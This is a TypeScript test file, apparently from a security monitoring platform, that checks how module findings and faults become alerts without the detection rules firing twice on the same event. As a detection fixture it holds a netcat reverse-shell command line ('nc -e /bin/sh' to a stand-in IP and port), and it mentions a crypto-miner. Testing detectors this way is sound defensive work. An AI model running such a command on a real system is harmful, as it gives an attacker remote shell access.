// Events the sentinel's WebAssembly modules publish (docs/modules.md §5, §6: the judged event's
// fields plus unmapped["module.*"]) become alerts, and are never fed to the rules and detectors
// again: the event a module judged was already seen as ordinary telemetry.
import { join } from 'node:path';
import { connectBus, provision, type Bus } from '@omega/bus';
import { HybridVerifier, loadMlDsaBackend } from '@omega/crypto';
import { EventBatch, Severity, type Event } from '@omega/proto';
import { createLogger } from '@omega/runtime';
import { withNats } from '@omega/testkit';
import { Registry } from 'prom-client';
import { MODULE_DISABLED_KIND, MODULE_FAULT_KIND, MODULE_FINDING_KIND } from './module-alert';
import { RuleCatalog } from './rule-catalog';
import { processLaunch } from './testing/spec-events';
import type { TelemetryPipeline } from './telemetry-pipeline';
import { specPipeline } from './testing/spec-pipeline';

const nats = withNats({ jetstream: true });
const logger = createLogger({ service: 'intelligence', level: 'silent' });
let bus: Bus;
let catalog: RuleCatalog;
let verifier: HybridVerifier;

beforeAll(async () => {
  bus = await connectBus({ servers: nats.url, name: 'module-alert-spec', logger });
  await provision(bus, { streams: ['TELEMETRY', 'ALERTS', 'DLQ'], kv: ['omega_identities'] });
  verifier = new HybridVerifier(await loadMlDsaBackend('liboqs'));
  catalog = await RuleCatalog.fromDirectory(join(__dirname, '..', 'rules'), 0n);
  nats.beforeStop(() => bus.drain());
});

function pipeline(registry: Registry): Promise<TelemetryPipeline> {
  return specPipeline(bus, catalog, verifier, registry);
}

const REVERSE_SHELL = { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 10.9.9.9 4444' };

/** What the sentinel publishes for a module's finding on `judged` (docs/modules.md §5). */
function findingEvent(judged: Event): Event {
  return {
    ...judged,
    id: 'module-verdict-1',
    severity: Severity.SEVERITY_HIGH,
    message: 'Miner process',
    unmapped: {
      ...judged.unmapped,
      'module.name': 'crypto-miner',
      'module.version': '1.0.0',
      'module.event_id': judged.id,
      'module.crypto-miner.pool': 'stratum',
      'module.finding.title': 'Miner process',
      'module.finding.explanation': 'xmrig connected to a stratum port',
      'module.finding.attack_technique_ids': 'T1496,not-a-technique',
      'module.block_request': '10.9.9.9/32',
    },
  };
}

/** What the sentinel publishes when a module faults (docs/modules.md §6). */
function faultEvent(id: string, faults: number, disabled: boolean): Event {
  return {
    ...processLaunch({ Image: '/bin/true' }),
    id,
    classUid: 0,
    payload: undefined,
    severity: disabled ? Severity.SEVERITY_HIGH : Severity.SEVERITY_MEDIUM,
    message: `module hostile-loop ${disabled ? `disabled after ${faults} faults` : 'faulted'}: time-budget: no event finished within 200 ms`,
    node: 'node-1',
    unmapped: {
      'module.name': 'hostile-loop',
      'module.version': '0.1.0',
      'module.fault': 'time-budget',
      'module.faults': String(faults),
      'module.disabled': String(disabled),
    },
  };
}

it('turns a finding, a fault and a disabling into alerts, and runs no rule on the module copy', async () => {
  const registry = new Registry();
  const p = await pipeline(registry);
  const judged = processLaunch(REVERSE_SHELL, { id: 'launch-1' });
  const batch = EventBatch.fromPartial({
    events: [
      judged,
      findingEvent(judged),
      faultEvent('fault-1', 1, false),
      faultEvent('fault-3', 3, true),
    ],
  });
  const alerts = p.detect(batch, 1).map((b) => b.alert);

  // The shipped rules fire on the judged event once each, never on the module's copy of it.
  const sigma = alerts.filter((a) => a.ruleId.startsWith('sigma:'));
  expect(sigma.length).toBeGreaterThan(0);
  for (const a of sigma) expect(a.evidence.map((e) => e.eventId)).toEqual(['launch-1']);
  expect(new Set(sigma.map((a) => a.ruleId)).size).toBe(sigma.length);

  const modules = alerts.filter((a) => a.ruleId.startsWith('module:'));
  expect(modules.map((a) => [a.ruleId, a.labels['detector.kind']])).toEqual([
    ['module:crypto-miner', MODULE_FINDING_KIND],
    ['module:hostile-loop', MODULE_FAULT_KIND],
    ['module:hostile-loop', MODULE_DISABLED_KIND],
  ]);
  const [finding, fault, disabled] = modules;
  expect(finding!.title).toBe('Miner process');
  expect(finding!.severity).toBe(Severity.SEVERITY_HIGH);
  expect(finding!.attackTechniqueIds).toEqual(['T1496']);
  expect(finding!.explanation).toContain('xmrig connected to a stratum port');
  expect(finding!.explanation).toContain('10.9.9.9/32');
  expect(finding!.labels['module.crypto-miner.pool']).toBe('stratum');
  expect(finding!.evidence.map((e) => e.eventId)).toEqual(['module-verdict-1']);
  expect(finding!.entities.map((e) => e.value)).toContain('shop/cart-1');
  expect(fault!.severity).toBe(Severity.SEVERITY_MEDIUM);
  expect(fault!.title).toContain('faulted (time-budget)');
  expect(disabled!.severity).toBe(Severity.SEVERITY_HIGH);
  expect(disabled!.explanation).toContain('disabled after 3 faults');

  const events = await registry.getSingleMetric('omega_intelligence_events_total')!.get();
  expect(events.values.find((v) => v.labels['kind'] === 'module')?.value).toBe(3);
});

it('raises nothing for a verdict that only annotated the event', async () => {
  const p = await pipeline(new Registry());
  const judged = processLaunch({ Image: '/bin/ls', CommandLine: 'ls' }, { id: 'ls-1' });
  const labelled: Event = {
    ...judged,
    id: 'module-labels-1',
    unmapped: {
      'module.name': 'suspicious-egress',
      'module.version': '1.0.0',
      'module.event_id': 'ls-1',
      'module.suspicious-egress.seen': 'yes',
    },
  };
  const alerts = p.detect(EventBatch.fromPartial({ events: [labelled] }), 2);
  expect(alerts).toEqual([]);
});
